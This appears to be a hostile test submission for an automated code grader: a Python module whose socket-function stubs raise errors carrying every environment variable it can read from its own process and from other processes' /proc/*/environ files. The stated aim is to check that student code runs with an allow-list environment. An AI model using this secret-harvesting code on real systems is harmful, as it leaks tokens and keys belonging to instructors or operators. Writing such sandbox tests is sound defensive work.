"""Hostile: prints the grader's environment into its own feedback.

Every variable it can find — its own environment, /proc/self/environ, and the environ of
every process it can open through /proc (its worker's parent, the grading child, the
coordinator) — goes into the message of every call, which feedback shows the student.
Expect: student code starts from an allow-list environment (PATH, LANG, HOME of the
scratch folder, what grading needs): a token or key set in the instructor's shell
reaches no result; the stage is worth 0.
"""

import os
import socket


def environment() -> str:
    seen = [f"{k}={v}" for k, v in os.environ.items()]
    pids = [p for p in os.listdir("/proc") if p.isdigit()] if os.path.isdir("/proc") else []
    for pid in ["self", *pids]:
        try:
            with open(f"/proc/{pid}/environ", "rb") as f:
                seen += f.read().decode("utf-8", "replace").split("\0")
        except OSError:
            continue
    return " | ".join(sorted(set(seen)))[:20000]


def create_tcp_socket(family: int = socket.AF_INET) -> socket.socket:
    """Return a new, unbound, unconnected TCP socket of the given address family."""
    raise NotImplementedError("hostile: the environment: " + environment())


def describe_socket(sock: socket.socket) -> dict[str, object]:
    """Describe what the kernel knows about sock, without changing or closing it."""
    raise NotImplementedError("hostile: the environment: " + environment())
